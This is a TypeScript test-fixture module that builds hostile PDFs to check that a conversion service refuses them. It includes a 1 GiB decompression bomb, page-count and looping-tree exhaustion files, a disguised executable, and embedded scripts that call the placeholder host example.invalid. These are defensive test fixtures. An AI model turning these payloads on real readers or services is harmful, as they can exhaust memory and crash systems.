import { createHash } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import type { ConversionFailureCode } from '../conversion.ts';

// Hostile PDFs (verification items 5 and 7), built in memory so the tests
// need no fixture files: each function returns the file's bytes and says
// what it attacks. The PDF objects are written here by hand, with a real
// cross-reference table (byte offsets computed as the file is assembled), so
// each file is hostile in exactly one way and otherwise well formed.

/** One indirect object's body (what goes between `n 0 obj` and `endobj`). */
type PdfBody = string | Buffer;

const HEADER = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');

/**
 * A whole PDF from its objects, numbered from 1 in order (object 1 is the
 * catalog), with the cross-reference table and trailer. `trailer` adds
 * entries to the trailer dictionary (/Encrypt, /ID).
 */
export function assemblePdf(bodies: readonly PdfBody[], trailer = ''): Buffer {
  const parts: Buffer[] = [HEADER];
  let length = HEADER.length;
  const offsets: number[] = [];
  bodies.forEach((body, index) => {
    offsets.push(length);
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`, 'latin1'), typeof body === 'string' ? Buffer.from(body, 'latin1') : body, Buffer.from('\nendobj\n', 'latin1')]);
    parts.push(part);
    length += part.length;
  });
  // Each entry is exactly 20 bytes: 10-digit offset, 5-digit generation, type, space, LF.
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${length}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

/** A stream object's body: its dictionary entries (without /Length) and its bytes. */
export function streamBody(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
}

/** PDF literal string syntax for plain ASCII text. */
const literal = (text: string): string => `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`;

/** A page's content stream showing `text` in Helvetica 12 near the top. */
const textContent = (text: string): Buffer => Buffer.from(text ? `BT /F1 12 Tf 72 770 Td ${literal(text)} Tj ET\n` : '', 'latin1');

/**
 * An ordinary, harmless PDF: one A4 page per entry, each showing its text
 * (an empty string makes a page with no text layer). The base of several
 * hostile files below, and useful on its own for pages-without-text tests.
 */
export function simplePdf(pageTexts: readonly string[] = ['Hello from a simple PDF.'], catalogExtra = ''): Buffer {
  // 1 catalog, 2 pages, 3 font, then a page and its content for each text.
  const pageRefs = pageTexts.map((_, index) => `${4 + index * 2} 0 R`).join(' ');
  const bodies: PdfBody[] = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
    `<< /Type /Pages /Count ${pageTexts.length} /Kids [${pageRefs}] /MediaBox [0 0 595 842] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  pageTexts.forEach((text, index) => {
    bodies.push(`<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + index * 2} 0 R >>`);
    bodies.push(streamBody('', textContent(text)));
  });
  return assemblePdf(bodies);
}

/** Wrong magic bytes: a PNG picture named .pdf (attacks: trusting the file name). */
export function pngNamedPdf(): Buffer {
  return Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg==', 'base64');
}

/** Wrong magic bytes: the start of a Linux executable named .pdf (attacks: handing a program to the tools). */
export function executableNamedPdf(): Buffer {
  const elf = Buffer.alloc(256);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]).copy(elf);
  // A PDF header further in: tools that search the first kilobyte for %PDF must not be fooled into reading it.
  elf.write('%PDF-1.7', 64, 'latin1');
  return elf;
}

/** Wrong magic bytes: an HTML page with a script, named .pdf (attacks: sniffing it as a web page). */
export function htmlNamedPdf(): Buffer {
  return Buffer.from('<!doctype html><html><body><script>fetch("https://example.invalid/")</script>%PDF-1.7</body></html>', 'utf8');
}

/** Nothing at all (attacks: a reader that assumes a header). */
export function emptyPdf(): Buffer {
  return Buffer.alloc(0);
}

/**
 * A PDF cut off before its page tree, its cross-reference table and trailer
 * (attacks: a reader that trusts the xref, or loops rebuilding it). The page
 * tree is written last so that no repair can find it.
 */
export function truncatedPdf(): Buffer {
  const whole = assemblePdf([
    '<< /Type /Catalog /Pages 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    streamBody('', textContent('This text is never reached by a page.')),
    '<< /Type /Page /Parent 5 0 R /Resources << /Font << /F1 2 0 R >> >> /Contents 3 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [4 0 R] /MediaBox [0 0 595 842] >>',
  ]);
  return whole.subarray(0, whole.indexOf('3 0 obj') + 20);
}

/** A PDF header followed by 64 KiB of random-looking bytes (attacks: a parser that scans garbage for objects). */
export function garbageAfterHeaderPdf(): Buffer {
  const garbage = Buffer.alloc(64 * 1024);
  // A fixed linear congruential sequence: the same garbage every run.
  let state = 0x2545f491;
  for (let i = 0; i < garbage.length; i++) {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    garbage[i] = state >>> 24;
  }
  return Buffer.concat([HEADER, garbage, Buffer.from('\n%%EOF\n', 'latin1')]);
}

/**
 * A page tree that declares `count` pages (200,000 by default) with very few
 * objects: 200 intermediate nodes that are all the same object, each with
 * 1,000 kids that are all the same page (attacks: allocating per declared
 * page, or walking every page before checking the count).
 */
export function declaredPagesPdf(count = 200_000): Buffer {
  const perNode = 1000;
  const nodes = Math.ceil(count / perNode);
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: nodes }, () => '3 0 R').join(' ')}] /MediaBox [0 0 595 842] >>`,
    `<< /Type /Pages /Parent 2 0 R /Count ${perNode} /Kids [${Array.from({ length: perNode }, () => '4 0 R').join(' ')}] >>`,
    '<< /Type /Page /Parent 3 0 R /Contents 5 0 R >>',
    streamBody('', Buffer.alloc(0)),
  ]);
}

/**
 * Really `count` pages (200,000 by default), each its own tiny object with no
 * content, under one page-tree node (attacks: the same as declaredPagesPdf,
 * for readers that check the count against the objects). About 14 MB.
 */
export function manyPagesPdf(count = 200_000): Buffer {
  const bodies: PdfBody[] = ['<< /Type /Catalog /Pages 2 0 R >>'];
  const kids: string[] = [];
  for (let page = 0; page < count; page++) kids.push(`${page + 3} 0 R`);
  bodies.push(`<< /Type /Pages /Count ${count} /Kids [${kids.join(' ')}] /MediaBox [0 0 595 842] >>`);
  const page = '<< /Type /Page /Parent 2 0 R >>';
  for (let index = 0; index < count; index++) bodies.push(page);
  return assemblePdf(bodies);
}

/**
 * A page tree whose node lists its own parent as a kid: 2 → 3 → 2 → …
 * (attacks: a recursive page-tree walk that never ends or overflows the stack).
 */
export function loopingPageTreePdf(): Buffer {
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 2 /Kids [3 0 R] /MediaBox [0 0 595 842] >>',
    '<< /Type /Pages /Parent 2 0 R /Count 2 /Kids [2 0 R 4 0 R] >>',
    '<< /Type /Page /Parent 3 0 R /Contents 5 0 R >>',
    streamBody('', textContent('A page behind a loop.')),
  ]);
}

/**
 * An ordinary one-page PDF that runs JavaScript when opened (/OpenAction),
 * which would try to reach the network (attacks: a reader that runs document
 * scripts). Converting must ignore the script and read the page.
 */
export function javaScriptOnOpenPdf(): Buffer {
  return simplePdf(['A page with a script on open.'], `/OpenAction << /S /JavaScript /JS ${literal('app.launchURL("https://example.invalid/opened", true); this.submitForm("https://example.invalid/form");')} >> `);
}

/** The padding string of the standard security handler (ISO 32000-1, 7.6.3.3, Algorithm 2 step a). */
const PASSWORD_PADDING = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');

const padPassword = (password: string): Buffer => Buffer.concat([Buffer.from(password, 'latin1'), PASSWORD_PADDING]).subarray(0, 32);
const md5 = (...parts: Buffer[]): Buffer => createHash('md5').update(Buffer.concat(parts)).digest();

/** RC4, written here because OpenSSL 3 keeps it out of node:crypto's default provider. */
function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + (s[i] as number) + (key[i % key.length] as number)) & 255;
    [s[i], s[j]] = [s[j] as number, s[i] as number];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 255;
    j = (j + (s[i] as number)) & 255;
    [s[i], s[j]] = [s[j] as number, s[i] as number];
    out[n] = (data[n] as number) ^ (s[((s[i] as number) + (s[j] as number)) & 255] as number);
  }
  return out;
}

/**
 * A one-page PDF really encrypted with the standard security handler, RC4
 * 40-bit (V 1, R 2), an empty user password and an owner password: any
 * reader opens it without asking (attacks: converting a document its author
 * locked; we refuse every encrypted file and say so). O, U and the file key
 * follow ISO 32000-1 7.6.3.3 Algorithms 2, 3 and 4; the content stream is
 * encrypted with its object key (7.6.2 Algorithm 1).
 */
export function encryptedPdf(ownerPassword = 'owner'): Buffer {
  const user = padPassword('');
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-4);
  const fileId = md5(Buffer.from('tactile-studio encrypted test file', 'latin1'));
  const owner = rc4(md5(padPassword(ownerPassword)).subarray(0, 5), user);
  const fileKey = md5(user, owner, permissions, fileId).subarray(0, 5);
  const check = rc4(fileKey, PASSWORD_PADDING);
  const objectKey = (objectNumber: number): Buffer => {
    const suffix = Buffer.from([objectNumber & 255, (objectNumber >> 8) & 255, (objectNumber >> 16) & 255, 0, 0]);
    return md5(fileKey, suffix).subarray(0, fileKey.length + 5);
  };
  const hex = (bytes: Buffer): string => `<${bytes.toString('hex')}>`;
  return assemblePdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1 /Kids [4 0 R] /MediaBox [0 0 595 842] >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      '<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
      streamBody('', rc4(objectKey(5), textContent('Locked words.'))),
      `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O ${hex(owner)} /U ${hex(check)} >>`,
    ],
    `/Encrypt 6 0 R /ID [${hex(fileId)} ${hex(fileId)}] `,
  );
}

/**
 * zlib data that inflates to `totalBytes` zeros (a multiple of 1 MiB), made
 * without compressing them all: one MiB of zeros is deflated once into a
 * non-final, byte-aligned block (a sync flush), the block is repeated, and an
 * empty final block and the Adler-32 of the zeros (a = 1, b = n mod 65521)
 * close the stream. Deflate ratio on zeros is about 1000:1.
 */
export function deflatedZeros(totalBytes: number): Buffer {
  const chunk = 1 << 20;
  if (totalBytes % chunk !== 0) throw new Error('deflatedZeros takes whole MiB');
  const block = deflateRawSync(Buffer.alloc(chunk), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((totalBytes % 65521) << 16) | 1) >>> 0);
  const head = deflateSync(Buffer.alloc(0)).subarray(0, 2);
  return Buffer.concat([head, ...Array.from({ length: totalBytes / chunk }, () => block), Buffer.from([0x03, 0x00]), adler]);
}

/**
 * A PDF bomb: one page whose content stream is about 1 MB of Flate data that
 * inflates to 1 GiB of zeros (zeros are white space to a PDF parser, so the
 * page is valid and blank). Attacks: a reader that inflates a whole stream
 * into memory — pdf.js took 2.2 GB and 21 s on such a file.
 */
export function bombPdf(inflatedBytes = 1 << 30): Buffer {
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 595 842] >>',
    '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>',
    streamBody('/Filter /FlateDecode', deflatedZeros(inflatedBytes)),
  ]);
}

/**
 * One page that draws `items` separate one-letter strings (a million by
 * default: 16 MB of drawing, deflated to about 50 kB). Passes the inflation
 * guard's per-stream ceiling; attacks a reader that keeps every text item of
 * a page as an object (pdf.js's text content).
 */
export function textFloodPdf(items = 1_000_000): Buffer {
  // Each string on a line of its own (a move down between them), so no reader
  // merges them into one run; a column of 1,000 starts again at the top, so
  // all stay on the page (pdf.js skips text drawn outside it).
  const column = Buffer.concat([Buffer.from('BT /F1 1 Tf 10 800 Td\n', 'latin1'), Buffer.alloc(1000 * 16, '0 -0.5 Td (a)Tj\n', 'latin1'), Buffer.from('ET\n', 'latin1')]);
  const drawing = Buffer.concat(Array.from({ length: Math.ceil(items / 1000) }, () => column));
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 595 842] >>',
    '<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    streamBody('/Filter /FlateDecode', deflateSync(drawing, { level: 9 })),
  ]);
}

/**
 * Every hostile PDF above that must be refused, with the failure it must end
 * as (the worker's and the routes' tests iterate over it). The file with
 * JavaScript on open is not here: it converts, its script ignored.
 */
export const REFUSED_PDFS: readonly { readonly name: string; readonly make: () => Buffer; readonly code: ConversionFailureCode }[] = [
  { name: 'a PNG named .pdf', make: pngNamedPdf, code: 'WRONG_FORMAT' },
  { name: 'a program named .pdf', make: executableNamedPdf, code: 'WRONG_FORMAT' },
  { name: 'a web page named .pdf', make: htmlNamedPdf, code: 'WRONG_FORMAT' },
  { name: 'an empty file', make: emptyPdf, code: 'EMPTY_FILE' },
  { name: 'a truncated file', make: truncatedPdf, code: 'DAMAGED' },
  { name: 'garbage after the header', make: garbageAfterHeaderPdf, code: 'DAMAGED' },
  { name: '200,000 declared pages', make: () => declaredPagesPdf(), code: 'TOO_MANY_PAGES' },
  { name: '200,000 real pages', make: () => manyPagesPdf(), code: 'TOO_MANY_PAGES' },
  { name: 'a looping page tree', make: loopingPageTreePdf, code: 'DAMAGED' },
  { name: 'an encrypted file with an empty user password', make: () => encryptedPdf(), code: 'ENCRYPTED' },
  { name: 'a 1 GiB bomb', make: () => bombPdf(), code: 'TOO_LARGE' },
];
